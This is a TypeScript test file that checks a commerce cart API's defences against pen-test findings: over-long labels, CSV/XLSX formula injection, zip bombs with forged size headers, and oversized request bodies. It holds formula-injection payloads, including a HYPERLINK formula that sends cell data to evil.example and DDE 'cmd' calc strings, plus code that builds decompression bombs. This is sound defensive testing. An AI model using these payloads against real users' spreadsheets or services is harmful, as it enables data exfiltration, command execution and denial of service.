/**
 * Input limits (docs/security.md, limits): the pen test stored 200,000-character labels through the
 * cart file upload, exported `=HYPERLINK(…)` cells, had a 99 KB XLSX expand to 42 MB, and posted a
 * 20 MB JSON body to /search. Each of these must now be a clear 4xx that saves nothing.
 */
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import app from "../../workers/commerce/src/index";
import {
  MAX_IMPORT_ROWS,
  MAX_XLSX_TOTAL_BYTES,
  parseCsv,
  parseXlsx,
  writeCsv,
  writeXlsx,
} from "../../workers/commerce/src/cart/files";
import { CART_LABEL_MAX_LENGTH } from "../../workers/commerce/src/cart/line-input";
import { BATCH_BODY_LIMIT, JSON_BODY_LIMIT } from "../../workers/commerce/src/http/body-limit";
import { call, createUser, env, seedTestCatalogue, signIn } from "../workers/commerce/helpers";

/** Articles that exist, are sold online and have order multiple 1 (quantities are not rounded). */
let plain: string[] = [];

beforeAll(async () => {
  await seedTestCatalogue();
  const { results } = await env.DB.prepare(
    `SELECT a.article_number FROM articles a WHERE a.id > 20 AND a.discontinued = 0 AND a.only_store = 0 AND a.must_be_in_stocked_at = 0
       AND NOT EXISTS (SELECT 1 FROM stock s WHERE s.article_number = a.article_number AND COALESCE(s.order_multiple, 1) <> 1)
     ORDER BY a.id LIMIT 40`,
  ).all<{ article_number: string }>();
  plain = results.map((r) => r.article_number);
  expect(plain.length).toBeGreaterThan(20);
});

async function freshBuyer() {
  const user = await createUser({ permissions: [{ customerId: "10001" }] });
  const tokens = await signIn(user.id, { customerId: "10001" });
  const cart = await call("/v2/cart", { token: tokens.AccessToken });
  expect(cart.status, cart.text).toBe(200);
  return { token: tokens.AccessToken, cartId: cart.json.cartId as string };
}

const add = (token: string, cartId: string, items: unknown[]) =>
  call(`/v2/cart/${cartId}/variants/batch/add`, { token, body: { items } });
const cartLines = async (token: string, cartId: string) =>
  ((await call(`/v2/cart/${cartId}`, { token })).json.items as any[])
    .map((i) => [i.articleNumber, i.quantity, i.deliveryId, i.label])
    .sort();

async function upload(token: string, cartId: string, file: Uint8Array | string, name = "order.csv") {
  const form = new FormData();
  form.set("deliveryId", "DBI");
  form.set("file", new File([file as BlobPart], name));
  const response = await app.request(
    `/v2/cart/${cartId}/upload`,
    { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form },
    env,
  );
  return { status: response.status, json: (await response.json()) as any };
}

/** A minimal XLSX with inline strings: header row, then the given rows. */
function xlsxOf(rows: string[][]): Uint8Array {
  return writeXlsx([["Artikelnummer", "Antal", "Märkning"], ...rows]);
}

const long = (n: number) => "x".repeat(n);

describe("label length on every path", () => {
  it(`refuses a label over ${CART_LABEL_MAX_LENGTH} characters in a JSON add and saves nothing of the batch`, async () => {
    const { token, cartId } = await freshBuyer();
    const tooLong = await add(token, cartId, [
      { articleNumber: plain[0], quantity: 1, deliveryId: "DBI", label: "ok" },
      { articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: long(CART_LABEL_MAX_LENGTH + 1) },
    ]);
    expect(tooLong.status).toBe(400);
    expect(tooLong.json.issues).toEqual([expect.objectContaining({ path: "items.1.label" })]);
    const huge = await add(token, cartId, [
      { articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: long(200_000) },
    ]);
    expect(huge.status).toBeGreaterThanOrEqual(400);
    expect(huge.status).toBeLessThan(500);
    const control = await add(token, cartId, [
      { articleNumber: plain[1], quantity: 1, deliveryId: "DBI", label: "rad 1\nrad 2" },
    ]);
    expect(control.status).toBe(400);
    expect(await cartLines(token, cartId)).toEqual([]);
    // Exactly the limit is fine.
    expect(
      (
        await add(token, cartId, [
          { articleNumber: plain[0], quantity: 1, deliveryId: "DBI", label: long(CART_LABEL_MAX_LENGTH) },
        ])
      ).status,
    ).toBe(200);
  });

  it("refuses a long label in a single and a batch update and keeps the line as it was", async () => {
    const { token, cartId } = await freshBuyer();
    const added = await add(token, cartId, [
      { articleNumber: plain[2], quantity: 2, deliveryId: "DBI", label: "Hus A" },
    ]);
    const itemId = added.json.cartItems[0].cartItemId;
    const single = await call(`/v2/cart/${cartId}/variants/${itemId}`, {
      method: "PUT",
      token,
      body: { label: long(CART_LABEL_MAX_LENGTH + 1), quantity: 5 },
    });
    expect(single.status).toBe(400);
    expect(single.json.issues[0].path).toBe("label");
    const batch = await call(`/v2/cart/${cartId}/variants/batch/update`, {
      method: "PUT",
      token,
      body: { items: [{ cartItemId: itemId, label: long(5_000) }] },
    });
    expect(batch.status).toBe(400);
    expect(await cartLines(token, cartId)).toEqual([[plain[2], 2, "DBI", "Hus A"]]);
  });

  it("refuses a CSV upload with a long label: 400 naming row and field, nothing of the file saved", async () => {
    const { token, cartId } = await freshBuyer();
    await add(token, cartId, [{ articleNumber: plain[3], quantity: 1, deliveryId: "DBI" }]);
    const before = await cartLines(token, cartId);
    const csv = `Artikelnummer;Antal;Märkning\n${plain[4]};2;Kök\n${plain[5]};1;${long(CART_LABEL_MAX_LENGTH + 1)}\n`;
    const result = await upload(token, cartId, csv);
    expect(result.status).toBe(400);
    expect(result.json.message).toMatch(/row 3/i);
    expect(result.json.issues).toEqual([expect.objectContaining({ row: 3, field: "label", path: "rows.3.label" })]);
    // The pen test's 200,000-character label.
    const huge = await upload(token, cartId, `${plain[4]};1;${long(200_000)}\n`);
    expect(huge.status).toBe(400);
    expect(huge.json.issues[0]).toMatchObject({ row: 1, field: "label" });
    expect(JSON.stringify(huge.json).length).toBeLessThan(5_000);
    expect(await cartLines(token, cartId)).toEqual(before);
  });

  it("refuses an XLSX upload with a long label, nothing saved", async () => {
    const { token, cartId } = await freshBuyer();
    const result = await upload(
      token,
      cartId,
      xlsxOf([
        [plain[6], "1", "Plan 2"],
        [plain[7], "1", long(200_000)],
      ]),
      "order.xlsx",
    );
    expect(result.status).toBe(400);
    expect(result.json.issues[0]).toMatchObject({ row: 3, field: "label" });
    expect(await cartLines(token, cartId)).toEqual([]);
    // The same file with a proper label is imported.
    const ok = await upload(
      token,
      cartId,
      xlsxOf([
        [plain[6], "1", "Plan 2"],
        [plain[7], "3", long(CART_LABEL_MAX_LENGTH)],
      ]),
      "order.xlsx",
    );
    expect(ok.status).toBe(200);
    expect(await cartLines(token, cartId)).toHaveLength(2);
  });
});

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\uFF1D1+1",
];

describe("CSV and XLSX export neutralise formulas", () => {
  it("prefixes formula-leading labels in the cart's CSV and XLSX export, keeps numbers numeric, and imports them back", async () => {
    const { token, cartId } = await freshBuyer();
    const added = await add(
      token,
      cartId,
      DANGEROUS.map((label, i) => ({ articleNumber: plain[10 + i], quantity: 3, deliveryId: "DBI", label })),
    );
    expect(added.status, added.text).toBe(200);
    expect(added.json.errors).toEqual([]);

    const csv = await call(`/v2/cart/${cartId}/export`, { token, body: { format: "csv" } });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.text).slice(1);
    expect(rows).toHaveLength(DANGEROUS.length);
    for (const row of rows) {
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      expect(row[2]).toBe("3");
    }
    expect(rows.map((r) => r[5]).sort()).toEqual(DANGEROUS.map((l) => `'${l}`).sort());

    const response = await app.request(
      `/v2/cart/${cartId}/export`,
      {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify({ format: "xlsx" }),
      },
      env,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    const sheet = strFromU8(unzipSync(bytes)["xl/worksheets/sheet1.xml"]);
    const texts = [...sheet.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) =>
      m[1]
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, "&")
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">"),
    );
    for (const text of texts) expect(text, text).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(texts).toEqual(expect.arrayContaining(DANGEROUS.map((l) => `'${l}`)));
    // The quantity column stays a number cell (no t="inlineStr"), so Excel can sum it.
    expect(sheet).toMatch(/<c r="C2"><v>3<\/v><\/c>/);
    expect(sheet).not.toMatch(/<f>/);

    // An exported file uploads again with the original labels (the apostrophe is taken off on import).
    const other = await freshBuyer();
    const again = await upload(other.token, other.cartId, bytes, "varukorg.xlsx");
    expect(again.status).toBe(200);
    expect((await cartLines(other.token, other.cartId)).map((l) => l[3]).sort()).toEqual([...DANGEROUS].sort());
  });

  it("neutralises text in the shared writer used by the order download, leaving plain numbers alone", () => {
    const csv = writeCsv([
      ["Ordernummer", "Rad", "Märkning", "Belopp"],
      ["O-1", "1", "=1+1", "-12,50"],
      ["O-1", "2", "@x", 7],
    ]);
    const rows = parseCsv(csv);
    expect(rows[1]).toEqual(["O-1", "1", "'=1+1", "-12,50"]);
    expect(rows[2]).toEqual(["O-1", "2", "'@x", "7"]);
    const xlsx = parseXlsx(
      writeXlsx([
        ["a", "b"],
        ["\tcmd", -5],
      ]),
    );
    expect(xlsx[1]).toEqual(["'\tcmd", "-5"]);
  });
});

describe("XLSX bomb and row limits", () => {
  /** A sheet whose XML is `bytes` long: a small zip that inflates far past the limit. */
  function bombSheet(bytes: number) {
    const row = `<row><c t="inlineStr"><is><t>${"A".repeat(1000)}</t></is></c></row>`;
    return `<worksheet><sheetData>${row.repeat(Math.ceil(bytes / row.length))}</sheetData></worksheet>`;
  }

  it("answers 413 for an XLSX whose declared size is over the limit, before inflating, and saves nothing", async () => {
    const { token, cartId } = await freshBuyer();
    const bomb = zipSync(
      { "xl/worksheets/sheet1.xml": strToU8(bombSheet(MAX_XLSX_TOTAL_BYTES + 1024 * 1024)) },
      { level: 9 },
    );
    expect(bomb.length).toBeLessThan(200 * 1024);
    const started = Date.now();
    const result = await upload(token, cartId, bomb, "bomb.xlsx");
    expect(result.status).toBe(413);
    expect(result.json.message).toMatch(/XLSX/);
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(await cartLines(token, cartId)).toEqual([]);
  });

  it("answers 413 for a zip that lies about its uncompressed size", async () => {
    const { token, cartId } = await freshBuyer();
    const bomb = zipSync({ "xl/worksheets/sheet1.xml": strToU8(bombSheet(3 * 1024 * 1024)) }, { level: 9 });
    // Declare 1,000 bytes in the central directory and the local header (offsets 24 and 22).
    const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.byteLength);
    for (let at = 0; at + 4 <= bomb.length; at++) {
      const signature = view.getUint32(at, true);
      if (signature === 0x02014b50) view.setUint32(at + 24, 1000, true);
      if (signature === 0x04034b50) view.setUint32(at + 22, 1000, true);
    }
    const result = await upload(token, cartId, bomb, "liar.xlsx");
    expect(result.status).toBe(413);
    expect(await cartLines(token, cartId)).toEqual([]);
  });

  it(`answers 413 for a CSV or XLSX with more than ${MAX_IMPORT_ROWS} rows, saving nothing`, async () => {
    const { token, cartId } = await freshBuyer();
    const csv = Array.from({ length: MAX_IMPORT_ROWS + 1 }, () => `${plain[0]};1`).join("\n");
    const fromCsv = await upload(token, cartId, csv);
    expect(fromCsv.status).toBe(413);
    const fromXlsx = await upload(
      token,
      cartId,
      xlsxOf(Array.from({ length: MAX_IMPORT_ROWS + 1 }, () => [plain[0], "1", ""])),
      "rows.xlsx",
    );
    expect(fromXlsx.status).toBe(413);
    expect(await cartLines(token, cartId)).toEqual([]);
  });

  it("answers 413 for an upload body over the limit", async () => {
    const { token, cartId } = await freshBuyer();
    const result = await upload(token, cartId, "x;1\n".repeat(600_000));
    expect(result.status).toBe(413);
    expect(await cartLines(token, cartId)).toEqual([]);
  });
});

describe("request body limits", () => {
  it("answers 413 for an oversize JSON body to /search, with and without Content-Length", async () => {
    const big = JSON.stringify({ query: "kabel", padding: "x".repeat(JSON_BODY_LIMIT) });
    const withLength = await call("/search", { rawBody: big, headers: { "content-type": "application/json" } });
    expect(withLength.status).toBe(413);
    expect(withLength.json.message).toMatch(/at most 64 KB/);
    // A stream without Content-Length stops at the limit.
    const chunk = new TextEncoder().encode("x".repeat(16 * 1024));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 2_000) controller.enqueue(chunk);
        else controller.close();
      },
    });
    const response = await app.request(
      "/search",
      { method: "POST", headers: { "content-type": "application/json" }, body: stream, duplex: "half" } as RequestInit,
      env,
    );
    expect(response.status).toBe(413);
    expect(sent).toBeLessThan(100);
    // An ordinary search still answers.
    expect((await call("/search", { body: { query: "kabel" } })).status).toBe(200);
  });

  it("answers 413 for an oversize cart add and GraphQL request, and the cart keeps its lines", async () => {
    const { token, cartId } = await freshBuyer();
    await add(token, cartId, [{ articleNumber: plain[20], quantity: 1, deliveryId: "DBI" }]);
    const items = Array.from({ length: 200 }, (_, i) => ({
      articleNumber: plain[i % plain.length],
      quantity: 1,
      deliveryId: "DBI",
      label: "y".repeat(60),
      padding: "z".repeat(BATCH_BODY_LIMIT / 200),
    }));
    const tooBig = await add(token, cartId, items);
    expect(tooBig.status).toBe(413);
    expect(await cartLines(token, cartId)).toEqual([[plain[20], 1, "DBI", ""]]);
    const graphql = await call("/graphql", { token, body: { query: `{ __typename ${" ".repeat(JSON_BODY_LIMIT)} }` } });
    expect(graphql.status).toBe(413);
    expect(graphql.json.message).toMatch(/at most/);
  });
});
